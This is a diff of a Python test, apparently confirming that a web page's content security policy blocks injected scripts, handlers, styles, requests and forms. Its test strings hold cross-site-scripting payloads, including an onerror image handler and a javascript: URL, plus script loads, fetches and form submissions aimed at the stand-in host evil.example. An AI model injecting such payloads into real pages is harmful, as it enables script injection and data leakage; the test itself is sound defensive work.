@@ -75,16 +75,16 @@ def test_the_content_policy_lets_no_other_script_style_or_request_through(files,
     page = show(files[name])
     tries = {
         "an inline script": "const s = document.createElement('script'); s.textContent = 'window.broken = 1';"
-                            "document.body.append(s)",
+        "document.body.append(s)",
         "a handler": "document.body.insertAdjacentHTML('beforeend', '<img src=x onerror=\"window.broken = 1\">')",
         "a remote script": "const r = document.createElement('script'); r.src = 'https://evil.example/x.js';"
-                           "document.body.append(r)",
+        "document.body.append(r)",
         "a link": "location.href = 'javascript:window.broken = 1'",
         "a request": "fetch('https://evil.example/').catch(() => 0)",
         "a style": "document.body.insertAdjacentHTML('beforeend', '<p style=\"color: red\">x</p>')",
         "a form": "const f = document.createElement('form'); f.action = 'https://evil.example/';"
-                  "document.body.append(f); f.submit()",
-    }  # fmt: skip
+        "document.body.append(f); f.submit()",
+    }
     for what, script in tries.items():
         before = page.run("window.violations.length")
         page.run(f"(() => {{ {script} }})()")
